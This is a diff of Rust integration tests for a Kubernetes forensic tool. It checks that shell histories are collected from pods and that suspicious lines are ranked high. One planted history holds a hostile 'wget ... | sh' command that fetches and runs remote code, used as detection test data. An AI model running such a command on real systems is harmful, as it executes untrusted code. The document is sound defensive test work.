@@ -530,9 +530,9 @@ fn collect_as_a_restricted_user_is_partial_and_says_what_failed() {
 
 #[test]
 fn collect_refuses_what_it_cannot_do() {
-    let out = common::kforensic(&["collect", "--shell-history"]);
-    assert_eq!(out.status.code(), Some(2));
-    assert!(common::stderr(&out).contains("checkpoint pod"), "{}", common::stderr(&out));
+    let out = common::kforensic(&["collect", "--image", "x"]);
+    assert_eq!(out.status.code(), Some(2), "--image goes with --shell-history");
+    assert!(common::stderr(&out).contains("--shell-history"), "{}", common::stderr(&out));
     let out = common::kforensic(&["collect", "-A", "-n", "x"]);
     assert_eq!(out.status.code(), Some(2));
     let out = common::kforensic(&["collect", "--sources", "pods,bogus"]);
@@ -608,4 +608,63 @@ spec:
     assert_eq!(report["sources"].as_array().unwrap().len(), 15, "every source ran");
     let logs = read_ndjson(&dir.path().join("ro/triage/logs.ndjson"));
     assert!(logs.iter().any(|l| l["name"] == "runner" && l["line"] == "kf-ro-log"), "the runner's log was read");
+}
+
+#[test]
+fn shell_history_is_read_from_the_nodes_and_what_intruders_type_is_ranked_high() {
+    let Some(env) = common::require("shell_history_is_read_from_the_nodes_and_what_intruders_type_is_ranked_high", common::CLUSTER) else { return };
+    let ns = env.namespace("col-hist");
+    // one pod whose shell history shows a download run through a shell, one with an ordinary
+    // history, one with none (the address is a documentation one, never contacted)
+    let typed = "ls /tmp\\nwget -qO- http://203.0.113.9/x | sh\\nexit\\n";
+    for (name, history) in [("intruded", Some(typed)), ("ordinary", Some("ls\\nps\\n")), ("silent", None)] {
+        let write = history.map(|h| format!("printf '{h}' > /root/.ash_history; ")).unwrap_or_default();
+        env.apply(&format!(
+            "apiVersion: v1
+kind: Pod
+metadata: {{name: {name}, namespace: {ns}}}
+spec:
+  terminationGracePeriodSeconds: 1
+  containers:
+  - name: app
+    image: test.local/busybox:1
+    command: [\"sh\", \"-c\", \"mkdir -p /root; {write}exec sleep 100000\"]
+",
+            ns = ns.name
+        ));
+    }
+    for name in ["intruded", "ordinary", "silent"] {
+        env.wait_running(&ns.name, name, 60);
+    }
+    std::thread::sleep(Duration::from_millis(500));
+    let dest = tempfile::tempdir().unwrap();
+    let out = env.kforensic(&[
+        "collect", "-n", &ns.name, "--sources", "pods", "--shell-history", "--image", env.kforensic_image(), "--pull-policy", "never",
+        "--dest", dest.path().to_str().unwrap(), "--case-id", "hist", "-o", "json",
+    ]);
+    assert_eq!(out.status.code(), Some(0), "{}\n{}", common::stdout(&out), common::stderr(&out));
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let bundle = bundle_dir(dest.path(), "hist");
+    // the history files, byte for byte, from the node side
+    let h = |pod: &str| bundle.join(format!("pods/{}/{pod}/app/history/root/.ash_history", ns.name));
+    assert_eq!(std::fs::read_to_string(h("intruded")).unwrap(), "ls /tmp\nwget -qO- http://203.0.113.9/x | sh\nexit\n");
+    assert_eq!(std::fs::read_to_string(h("ordinary")).unwrap(), "ls\nps\n");
+    assert!(!h("silent").exists());
+    // the rules: noted for both, high only for the intruder's; in the report and in the bundle
+    let found: BTreeSet<(String, String)> = read_ndjson(&bundle.join("triage/findings.ndjson"))
+        .iter()
+        .filter(|f| f["id"].as_str().unwrap().starts_with("KF-HIST"))
+        .map(|f| (f["id"].as_str().unwrap().to_string(), f["name"].as_str().unwrap().to_string()))
+        .collect();
+    let want: BTreeSet<(String, String)> = [("KF-HIST-001", "intruded"), ("KF-HIST-002", "intruded"), ("KF-HIST-001", "ordinary")]
+        .iter()
+        .map(|(a, b)| (a.to_string(), b.to_string()))
+        .collect();
+    assert_eq!(found, want);
+    assert!(report["findings"].to_string().contains("download piped into a shell"), "{}", report["findings"]);
+    let v = common::kforensic(&["verify", bundle.to_str().unwrap()]);
+    assert_eq!(v.status.code(), Some(0), "{}{}", common::stdout(&v), common::stderr(&v));
+    // no collector pod stays on any node
+    let left = env.kubectl_raw(&["-n", "kforensic", "get", "pods", "-l", "kforensic.io/case=hist", "-o", "name"], None);
+    assert_eq!(common::stdout(&left).trim(), "", "collector pod left behind");
 }
